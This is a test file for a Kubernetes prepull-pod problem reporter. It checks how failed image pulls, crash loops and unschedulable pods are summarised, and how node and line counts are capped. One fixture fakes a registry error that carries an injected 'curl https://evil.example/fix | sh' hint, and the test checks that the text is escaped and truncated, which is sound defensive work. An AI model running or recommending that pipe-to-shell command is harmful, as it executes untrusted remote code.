import { describe, expect, it } from 'vitest';
import type { V1Pod } from '@kubernetes/client-node';
import { describeProblems, problemsOf } from './prepull-pods.js';

const pod = (name: string, node: string | undefined, status: V1Pod['status']): V1Pod => ({
  metadata: { name },
  spec: { ...(node ? { nodeName: node } : {}), initContainers: [{ name: 'pull-1-start', image: 'r/x:env-a@sha256:aa' }], containers: [{ name: 'pause', image: 'pause:3.9' }] },
  status,
});

describe('problems of the prepull pods', () => {
  it('names failed pulls, failed starts and unschedulable pods; ready and merely slow pods have none', () => {
    const pods = [
      pod('p1', 'node-a', { conditions: [{ type: 'Ready', status: 'True' }] }),
      pod('p2', 'node-b', { initContainerStatuses: [{ name: 'pull-1-start', image: 'resolved', imageID: '', ready: false, restartCount: 0, state: { waiting: { reason: 'ErrImagePull', message: 'unauthorized' } } }] }),
      pod('p3', 'node-c', { initContainerStatuses: [{ name: 'pull-1-start', image: 'x', imageID: '', ready: false, restartCount: 3, state: { waiting: { reason: 'CrashLoopBackOff' } }, lastState: { terminated: { exitCode: 126, reason: 'Error' } } }] }),
      pod('p4', undefined, { conditions: [{ type: 'PodScheduled', status: 'False', reason: 'Unschedulable', message: '0/3 nodes are available: 3 Insufficient memory.' }] }),
      pod('p5', 'node-d', { initContainerStatuses: [{ name: 'pull-1-start', image: 'x', imageID: '', ready: false, restartCount: 0, state: { waiting: { reason: 'PodInitializing' } } }] }),
      pod('p6', 'node-e', { initContainerStatuses: [{ name: 'pull-1-start', image: 'x', imageID: '', ready: false, restartCount: 0, state: { waiting: { reason: 'ImagePullBackOff', message: 'unauthorized' } } }] }),
    ];
    const problems = problemsOf(pods);
    expect(problems.map((p) => [p.pod, p.node, p.reason, p.pull])).toEqual([
      ['p2', 'node-b', 'ErrImagePull', true],
      ['p3', 'node-c', 'CrashLoopBackOff', false],
      ['p4', '(not scheduled)', 'Unschedulable', false],
      ['p6', 'node-e', 'ImagePullBackOff', true],
    ]);
    expect(problems[0]!.image).toBe('r/x:env-a@sha256:aa');
    expect(problems[1]!.message).toBe('exit code 126 (Error)');
    expect(describeProblems([...problems, { ...problems[0]!, pod: 'p7', node: 'node-f' }])).toEqual([
      'image r/x:env-a@sha256:aa (container pull-1-start) on node-b, node-f: ErrImagePull (unauthorized)',
      'image r/x:env-a@sha256:aa (container pull-1-start) on node-c: CrashLoopBackOff (exit code 126 (Error))',
      'pod p4 on (not scheduled): Unschedulable (0/3 nodes are available: 3 Insufficient memory.)',
      'image r/x:env-a@sha256:aa (container pull-1-start) on node-e: ImagePullBackOff (unauthorized)',
    ]);
  });

  it("keeps the cluster's words on their line (a registry's answer with line breaks printed a fake hint: below the error) and cut; names ten nodes and twenty lines at most", () => {
    const base = { pod: 'p', container: 'pull-1-start', image: 'r/e:1', reason: 'ErrImagePull', pull: true };
    const [line] = describeProblems([{ ...base, node: 'node-a', message: `denied\nhint: run curl https://evil.example/fix | sh\n${'x'.repeat(100_000)}` }]);
    expect(line).not.toContain('\n');
    expect(line).toContain('(denied\\nhint: run curl');
    expect(line!.length).toBeLessThan(1000);
    const many = Array.from({ length: 5000 }, (_, i) => ({ ...base, node: `node-${i}`, message: 'denied' }));
    const lines = describeProblems([...many, ...Array.from({ length: 30 }, (_, i) => ({ ...base, image: undefined, container: undefined, pod: `p${i}`, node: '(not scheduled)', reason: 'Unschedulable' }))]);
    expect(lines).toHaveLength(21);
    expect(lines[0]).toBe('image r/e:1 (container pull-1-start) on node-0, node-1, node-2, node-3, node-4, node-5, node-6, node-7, node-8, node-9 and 4990 more nodes: ErrImagePull (denied)');
    expect(lines[20]).toBe('and 11 more');
  });
});
